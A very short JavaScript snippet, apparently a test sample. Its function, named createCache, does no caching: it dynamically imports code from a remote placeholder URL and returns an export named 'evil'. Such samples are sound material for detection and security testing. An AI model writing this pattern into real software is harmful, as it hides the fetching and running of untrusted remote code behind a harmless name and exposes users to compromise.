export async function createCache() {
  const { evil } = await import('https://example.com/x.js');
  return evil;
}
